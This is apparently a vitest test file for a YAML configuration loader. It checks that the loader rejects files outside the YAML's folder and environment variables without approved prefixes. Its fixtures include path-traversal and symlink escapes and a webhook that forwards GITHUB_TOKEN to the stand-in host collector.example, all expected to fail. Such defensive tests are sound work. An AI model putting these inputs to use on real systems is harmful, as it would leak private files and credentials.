import { mkdir, mkdtemp, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadNeoflowFile } from '../../src/cli/as-code/neoflow-file.ts';

// A neoflow.yaml from elsewhere must not send the applier's other files or environment anywhere:
// apply reads files only below the YAML file's folder and only NEOFLOW_SECRET_/NEOFLOW_CREDENTIAL_ variables.
let root: string;
let folder: string;
let outside: string;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'neoflow-reach-'));
  folder = join(root, 'project');
  await mkdir(join(folder, 'secrets'), { recursive: true });
  outside = join(root, 'private.txt');
  await writeFile(outside, 'not for apply');
  await writeFile(join(folder, 'secrets', 'token.txt'), 'token-value\n');
  await writeFile(join(root, 'outside.js'), 'module.exports = async () => 1;');
  await symlink(outside, join(folder, 'secrets', 'link.txt'));
});

let count = 0;
async function yamlFile(text: string) {
  const path = join(folder, `neoflow-${++count}.yaml`);
  await writeFile(path, text);
  return path;
}

const secretFrom = (value: string) => `version: 1\nsecrets:\n  - name: TOKEN\n    value: ${value}\n`;
const valueOf = async (text: string, env: NodeJS.ProcessEnv = {}, anyEnv = false) => {
  const file = await loadNeoflowFile(await yamlFile(text), env, { anyEnv });
  return file.secrets[0]!.value!.value;
};

describe('neoflow apply reads files', () => {
  it('below the folder of the YAML file', async () => {
    expect(await valueOf(secretFrom('{ file: secrets/token.txt }'))).toBe('token-value');
    expect(await valueOf(secretFrom(`{ file: ${join(folder, 'secrets', 'token.txt')} }`))).toBe('token-value');
  });

  it.each([
    ['a path climbing out', () => '../private.txt'],
    ['an absolute path elsewhere', () => outside],
    ['a link leading out', () => 'secrets/link.txt'],
  ])('never by %s, naming the file', async (_what, path) => {
    await expect(valueOf(secretFrom(`{ file: "${path()}" }`))).rejects.toThrow(
      /secrets\[0\]\.value: .* is not read: apply reads only files below the folder of the YAML file/,
    );
  });

  it("never a function's codeFile outside the folder", async () => {
    const text = 'version: 1\nfunctions:\n  - name: fn\n    codeFile: ../outside.js\n';
    await expect(loadNeoflowFile(await yamlFile(text), {})).rejects.toThrow(/functions\[0\]\.codeFile: .* is not read/);
  });
});

describe('neoflow apply reads environment variables', () => {
  it('named NEOFLOW_SECRET_… or NEOFLOW_CREDENTIAL_…', async () => {
    expect(await valueOf(secretFrom('{ env: NEOFLOW_SECRET_TOKEN }'), { NEOFLOW_SECRET_TOKEN: 'a' })).toBe('a');
    expect(await valueOf(secretFrom('{ env: NEOFLOW_CREDENTIAL_X }'), { NEOFLOW_CREDENTIAL_X: 'b' })).toBe('b');
  });

  it('of any other name only with --allow-any-env, naming the variable otherwise', async () => {
    const env = { AWS_SECRET_ACCESS_KEY: 'cloud-key', NEOFLOW_API_KEY: 'api-key' };
    for (const name of Object.keys(env)) {
      await expect(valueOf(secretFrom(`{ env: ${name} }`), env)).rejects.toThrow(
        new RegExp(`secrets\\[0\\]\\.value: \\$${name} is not read: .*--allow-any-env`),
      );
    }
    expect(await valueOf(secretFrom('{ env: AWS_SECRET_ACCESS_KEY }'), env, true)).toBe('cloud-key');
  });

  it("in a webhook's header of an automation too", async () => {
    const text = [
      'version: 1',
      'automations:',
      '  - name: hook',
      '    trigger: { type: schedule, cron: "0 0 * * *" }',
      '    action:',
      '      type: webhook',
      '      url: https://collector.example/x',
      '      signingSecret: HOOK',
      '      headers: { X-Token: { env: GITHUB_TOKEN } }',
      '',
    ].join('\n');
    await expect(loadNeoflowFile(await yamlFile(text), { GITHUB_TOKEN: 'ghp' })).rejects.toThrow(
      /automations\[0\]: \$GITHUB_TOKEN is not read/,
    );
  });
});
